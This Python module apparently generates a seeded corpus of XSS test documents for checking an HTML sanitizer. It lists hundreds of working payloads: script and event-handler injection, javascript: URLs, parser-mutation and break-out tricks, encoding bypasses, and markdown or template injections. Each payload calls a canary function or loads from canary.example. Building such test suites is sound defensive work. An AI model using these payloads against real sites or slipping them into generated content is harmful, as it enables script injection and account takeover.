"""Documents that try to run: a seeded grammar of families, each nested in shapes.

``№`` in a pattern is where the document's own number goes: what runs says which did.
``RUN`` calls ``ran(number)`` in the page around; what is loaded is asked of ``CANARY``.
"""

import html
import random
from collections.abc import Iterator
from dataclasses import dataclass

CANARY = "canary.example"
FIRST = 100_000  # documents are numbered from here: no other number looks like theirs
RUN = "parent.ran(№)"
_LOAD = f"http://{CANARY}/№"
_EVENTS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin"),
    *("onanimationstart", "onpointerenter", "onbeforetoggle", "oncopy", "onpageshow"),
)

# What runs by itself in a browser that is given it raw, family by family.
FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>RUN</script>",
        "<SCRIPT>RUN</SCRIPT >",
        "<script\t>RUN</script\n>",
        "<script/x>RUN</script>",
        "<script src=LOAD.js></script>",
        "<script src='LOAD.js'/></script>",
        "<script type=module>RUN</script>",
        "<svg><script>RUN</script></svg>",
        "<svg><script href=LOAD.js /></svg>",
        "<svg><script xlink:href='LOAD.js'></script></svg>",
        "<script><!--\nRUN\n--></script>",
        "<script>/*</p>*/RUN</script>",
    ),
    "handler": (
        "<img src=x onerror=RUN>",
        "<img src=x OnErRoR='RUN'>",
        '<img/src="x"/onerror="RUN">',
        "<img src=x onerror\n=\nRUN>",
        "<img src=x onerror=&#112;arent.ran(№)>",
        "<image src=x onerror=RUN>",
        "<svg onload=RUN>",
        "<svg/onload=RUN>",
        "<svg><image href=x onerror=RUN></svg>",
        "<video><source onerror=RUN></video>",
        "<audio src=x onerror=RUN></audio>",
        "<video src=x onerror=RUN></video>",
        "<body onload=RUN>",
        "<body onpageshow=RUN>",
        "<input autofocus onfocus=RUN>",
        "<select autofocus onfocus=RUN></select>",
        "<details open ontoggle=RUN>x</details>",
        "<iframe onload=RUN></iframe>",
        "<object data=x onerror=RUN></object>",
        "<link rel=stylesheet href=LOAD.css onload=RUN onerror=RUN>",
        "<style onload=RUN></style>",
        "<svg><style onload=RUN></style></svg>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
        "<svg><set onbegin=RUN attributeName=x dur=1s></svg>",
        "<style>@keyframes k{}</style>"
        "<b style='animation:k 1s' onanimationstart=RUN>x</b>",
        "<marquee onstart=RUN>x</marquee>",
        "<p EVENT=RUN>touch me</p>",
        "<a href=/x EVENT=RUN>touch me</a>",
        "<div tabindex=1 autofocus EVENT=RUN>touch me</div>",
        "<xss contenteditable autofocus onfocus=RUN>x</xss>",
        "<math><mtext EVENT=RUN>x</mtext></math>",
        "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=RUN>x</p>",
        "<img srcset=x sizes=1px onerror=RUN>",
        "<bgsound/><isindex/><img src onerror=RUN>",
    ),
    "address": (
        "<a href=javascript:RUN>touch me</a>",
        "<a href='JaVaScRiPt:RUN'>touch me</a>",
        "<a href=' &#14; javascript:RUN'>touch me</a>",
        "<a href='java\tscript:RUN'>touch me</a>",
        "<a href='java&#10;script:RUN'>touch me</a>",
        "<a href='java&NewLine;script&colon;RUN'>touch me</a>",
        "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN'>x</a>",
        "<a href='\x01javascript:RUN'>touch me</a>",
        "<a href='javascript://host.example/%0aRUN'>touch me</a>",
        "<a href='javascript:RUN//https://good.example/'>touch me</a>",
        "<area href=javascript:RUN>",
        "<svg><a href=javascript:RUN><text y=20>touch me</text></a></svg>",
        "<svg><a xlink:href=javascript:RUN><text y=20>touch me</text></a></svg>",
        "<svg><a><animate attributeName=href values=javascript:RUN />"
        "<text y=20>x</text></a></svg>",
        "<math><mi href=javascript:RUN>touch me</mi></math>",
        "<iframe src=javascript:RUN></iframe>",
        "<iframe src='jAva&Tab;script:RUN'></iframe>",
        "<form action=javascript:RUN><button>touch me</button></form>",
        "<form><button formaction=javascript:RUN>touch me</button></form>",
        "<form><input type=submit formaction=javascript:RUN></form>",
        "<form id=f№></form><button form=f№ formaction=javascript:RUN>x</button>",
        "<object data=javascript:RUN></object>",
        "<embed src=javascript:RUN>",
    ),
    "frame": (
        "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
        "<iframe srcdoc='&lt;img src=x onerror=parent.RUN&gt;'></iframe>",
        "<iframe srcdoc=&lt;svg/onload=parent.RUN&gt;></iframe>",
        "<iframe src='LOAD.html'></iframe>",
        "<iframe src='data:text/html,<script src=LOAD.js></script>'></iframe>",
        "<object data='LOAD.html'></object>",
        "<embed src='LOAD.html'>",
        "<object data='data:text/html,<script src=LOAD.js></script>'></object>",
        "<svg><foreignObject><iframe onload=RUN></iframe></foreignObject></svg>",
        "<template shadowrootmode=open><img src=x onerror=RUN></template>",
        "<p><template shadowrootmode=open><script>RUN</script></template></p>",
    ),
    "load": (
        "<img src=LOAD.png>",
        "<img srcset='LOAD.png 1x'>",
        "<picture><source srcset=LOAD.png><img src=data:,></picture>",
        "<video poster=LOAD.png></video>",
        "<video src=LOAD.mp4 preload=auto></video>",
        "<audio src=LOAD.mp3 preload=auto></audio>",
        "<input type=image src=LOAD.png>",
        "<table background=LOAD.png><tr><td>x</td></tr></table>",
        "<body background=LOAD.png>",
        "<link rel=stylesheet href=LOAD.css>",
        "<link rel=preload as=image href=LOAD.png>",
        "<link rel=prefetch href=LOAD.html>",
        "<link rel=modulepreload href=LOAD.js>",
        "<link rel=icon href=LOAD.ico>",
        "<style>@import 'LOAD.css';</style>",
        "<style>*{background:url(LOAD.png)}</style>",
        "<p style='background:url(LOAD.png)'>x</p>",
        "<p style='background:u\\72l(LOAD.png)'>x</p>",
        "<ul style='list-style:url(LOAD.png)'><li>x</li></ul>",
        "<style>p{content:image-set('LOAD.png' 1x)}</style><p>x</p>",
        "<svg><image href=LOAD.png width=9 height=9></svg>",
        "<svg><image xlink:href=LOAD.png width=9 height=9></svg>",
        "<svg><use href='LOAD.svg#a'></svg>",
        "<svg><style>*{fill:url(LOAD.svg#a)}</style><rect width=9 height=9></svg>",
        "<svg><feImage href=LOAD.png /></svg><img src=LOAD.png>",
        "<meta http-equiv=refresh content='0;url=LOAD.html'>",
        "<base href=LOAD/><img src=x.png>",
        '<script type=importmap>{"imports":{"x":"LOAD.js"}}</script>'
        "<script type=module>import 'x'</script>",
        "<script type=speculationrules>{}</script><img src=LOAD.png>",
    ),
    # Parsers that disagree: what one takes for text, another takes for a tag.
    "mutation": (
        "<svg><style><img src=x onerror=RUN></style></svg>",
        "<svg><p><style><g title='</style><img src=x onerror=RUN>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x"
        " onerror=RUN&gt;'><img src=x onerror=RUN>",
        "<math><mtext><mglyph><style><img src=x onerror=RUN></style></mglyph></mtext>",
        "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>"
        "<img src=x onerror=RUN>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
        "<svg></p><style><a id='</style><img src=x onerror=RUN>'>",
        "<title><a title='</title><img src=x onerror=RUN>'></title>",
        "<textarea><p title='</textarea><img src=x onerror=RUN>'></textarea>",
        "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
        "<noembed><p title='</noembed><img src=x onerror=RUN>'></noembed>",
        "<noframes><p title='</noframes><img src=x onerror=RUN>'></noframes>",
        "<style><p title='</style><img src=x onerror=RUN>'></style>",
        "<iframe><p title='</iframe><img src=x onerror=RUN>'></iframe>",
        "<!--><img src=x onerror=RUN>-->",
        "<!---><img src=x onerror=RUN>-->",
        "<!-- --!><img src=x onerror=RUN> -->",
        "<![CDATA[<img src=x onerror=RUN>]]><img src=x onerror=RUN>",
        "<svg><![CDATA[><img src=x onerror=RUN>]]></svg><img src=x onerror=RUN>",
        "<?xml ><img src=x onerror=RUN> ?>",
        "<!doctype x [<!ENTITY a '><img src=x onerror=RUN>'>]>",
        "</><img src=x onerror=RUN>",
        "<//><img src=x onerror=RUN>",
        "<x a='><img src=x onerror=RUN>'><img src=x onerror=RUN>",
        '<img src="`"><img src=`x`onerror=RUN>',
        "<select><style></select><img src=x onerror=RUN></style>",
        "<table><td><a><table><svg><desc><td><a><img src=x onerror=RUN>",
        "<svg><foreignObject><math></foreignObject><img src=x onerror=RUN>",
        "<svg><desc><noscript><!--</noscript><img src=x onerror=RUN>-->",
        "<math><annotation-xml encoding='text/html'><style><img src=x onerror=RUN>"
        "</style></annotation-xml></math><img src=x onerror=RUN>",
        "<template><s><template><s><img src=x onerror=RUN></s></template></template>"
        "<img src=x onerror=RUN>",
        "<img title='<!--' src=x onerror=RUN><p title='-->'>",
        "<plaintext><img src=x onerror=RUN></plaintext></p><!---->",
        "<img src=x\x00 one\x00rror=RUN><img src=x onerror=RUN>",
        "\ufeff\u202e<img src=x onerror=RUN>\u202c",
        "＜img src=x onerror=RUN＞<img src=x onerror=RUN>",
        "<ımg src=x onerror=RUN><ſcript>RUN</ſcript><img src=x onerror=RUN>",
        "<frameset onload=RUN>",
    ),
    # What breaks out of a place that it is put into: a script, an attribute, a tag.
    "break-out": (
        "</script><script>RUN</script>",
        "</script><img src=x onerror=RUN>",
        "</title></head><body><img src=x onerror=RUN>",
        "</textarea></template></style></noscript></xmp><img src=x onerror=RUN>",
        '"><img src=x onerror=RUN>',
        "'><img src=x onerror=RUN>",
        '" autofocus onfocus=RUN x="<img src=x onerror=RUN>',
        "--><img src=x onerror=RUN><!--",
        "]]><img src=x onerror=RUN>",
        "\u2028</script><img src=x onerror=RUN>",
        "<!--<script></script><img src=x onerror=RUN>",
        '\\"><img src=x onerror=RUN>',
        '{"a":"</script><img src=x onerror=RUN>"}',
        "</p></li></ul></td></tr></table></section></div><img src=x onerror=RUN>",
    ),
    # What means something to another language, and holds HTML beside.
    "language": (
        "[touch me](javascript:RUN)\n\n<img src=x onerror=RUN>",
        "[touch me](<javascript:RUN>)\n\n<a href=javascript:RUN>x</a>",
        '![x](x"onerror="RUN)\n\n<img src=x onerror=RUN>',
        "<javascript:RUN>\n\n<img src=x onerror=RUN>",
        "[a]: javascript:RUN\n\n[a] <a href=javascript:RUN>touch me</a>",
        "`` `<img src=x onerror=RUN>",
        "```\n</code></pre><img src=x onerror=RUN>",
        "|a|\n|-|\n|<img src=x onerror=RUN>|",
        "    <img src=x onerror=RUN>\n\n# <svg onload=RUN>",
        "[![x](data:,x)](javascript:RUN) <svg onload=RUN>",
        "{{ RUN }}{% csrf_token %}{# x #}<img src=x onerror=RUN>",
        "{% if 1 %}<img src=x onerror=RUN>{% endif %}{{ settings.SECRET_KEY }}",
        "[caption]<img src=x onerror=RUN>[/caption]",
        "[embed]javascript:RUN[/embed]<svg onload=RUN>",
        '[gallery ids="\'><img src=x onerror=RUN>"]<svg onload=RUN>',
        "<!-- wp:html --><img src=x onerror=RUN><!-- /wp:html -->",
        "${RUN}#{RUN}<%= RUN %><svg onload=RUN>",
        "&lt;img src=x onerror=RUN&gt;<svg onload=RUN>",
        "&amp;lt;script&amp;gt;RUN<svg onload=RUN>",
        "\\u003cimg src=x onerror=RUN\\u003e<svg onload=RUN>",
        "+ADw-script+AD4-RUN+ADw-/script+AD4-<svg onload=RUN>",
        "%3Cimg src=x onerror=RUN%3E<svg onload=RUN>",
    ),
}
# What a document is put into: §. Some hide it from a browser; most do not.
_SHAPES = (
    *(
        "§",
        "§",
        "§",
        "<p>§</p>",
        "<p>before § after",
        "<div><p>§</div>",
        "<b><i>§</b></i>",
    ),
    *(
        "<table><tr><td>§</td></tr></table>",
        "<table>§</table>",
        "<ul><li>§",
        "<h2>§</h2>",
    ),
    *("<blockquote>§<cite>x</cite></blockquote>", "<a href=/x>§</a>", "<section>§</x>"),
    *("<figure>§<figcaption>x</figcaption></figure>", "<svg></svg>§", "<math></math>§"),
    *("<!-- a -->§", "<x-y>§</x-y>", "<font color=red>§", "<details open>§</details>"),
    *(
        "<center>§</center>\n\n",
        "text & text < text > §",
        "\n\n§\n\n",
        "“§” — é 漢字 🙂",
    ),
    *("<div " + "a" * 300 + "=1>§</div>", "<p>" * 12 + "§", "<div>" * 70 + "§"),
    *(
        "<dl><dt>§</dl>",
        '<p title="x>§<">§</p>',
        "<ruby>§</ruby>",
        "<select></select>§",
    ),
)


@dataclass(frozen=True)
class Document:
    """One of the grammar: ``text`` is as untrusted as text can be."""

    number: int
    family: str
    text: str


def documents(count: int, seed: int = 1) -> Iterator[Document]:
    """So many documents, the same for the same seed: families in turn."""
    chance = random.Random(seed)
    names = list(FAMILIES)
    for number in range(count):
        family = names[number % len(names)]
        # Every pattern bare first; then nested, mixed and written in other ways.
        turn, patterns = number // len(names), FAMILIES[family]
        pattern = patterns[turn % len(patterns)]
        text = pattern
        if turn >= len(patterns):
            text = _mixed(pattern, chance)
        text = text.replace("EVENT", chance.choice(_EVENTS))
        text = text.replace("parent.RUN", "top.ran(№)").replace("RUN", RUN)
        text = text.replace("LOAD", _LOAD)
        known_as = FIRST + number
        yield Document(known_as, family, text.replace("№", str(known_as)))


def _mixed(pattern: str, chance: random.Random) -> str:
    written = chance.choice(_WRITTEN)(pattern, chance)
    if chance.random() < 0.3:
        other = chance.choice(FAMILIES[chance.choice(list(FAMILIES))])
        together = chance.choice(("{0}{1}", "{1}{0}", "<p>{0}</p>{1}"))
        written = together.format(written, other)
    for _ in range(chance.choice((1, 1, 2, 3))):
        written = chance.choice(_SHAPES).replace("§", written)
    return written


def _as_it_is(pattern: str, chance) -> str:
    return pattern


def _cut(pattern: str, chance) -> str:
    """Its end is missing, as where something was cut to a length."""
    return pattern[: chance.randint(len(pattern) // 2, len(pattern))]


def _strewn(pattern: str, chance) -> str:
    """With a character somewhere that some parsers drop, and others stop at."""
    at = chance.randrange(len(pattern) + 1)
    odd = chance.choice("\0\t\n\r\f\x0b\x01\x1b\x7f\u200b\u00a0\ufffd/\"'`=<>& ")
    return pattern[:at] + odd + pattern[at:]


def _cased(pattern: str, chance) -> str:
    """Tags in capitals here and there, the script's own words left alone."""
    parts = pattern.split("RUN")
    return "RUN".join(
        part
        if "LOAD" in part or "EVENT" in part
        else "".join(c.upper() if chance.random() < 0.3 else c for c in part)
        for part in parts
    )


def _twice(pattern: str, chance) -> str:
    """Inside itself, for whoever removes a tag once."""
    return pattern.replace("<", "<<", 1) + pattern


def _escaped(pattern: str, chance) -> str:
    """Escaped once, for whoever unescapes once too often, and then as it is."""
    return html.escape(pattern) + pattern


_WRITTEN = (_as_it_is, _as_it_is, _as_it_is, _cut, _strewn, _cased, _twice, _escaped)
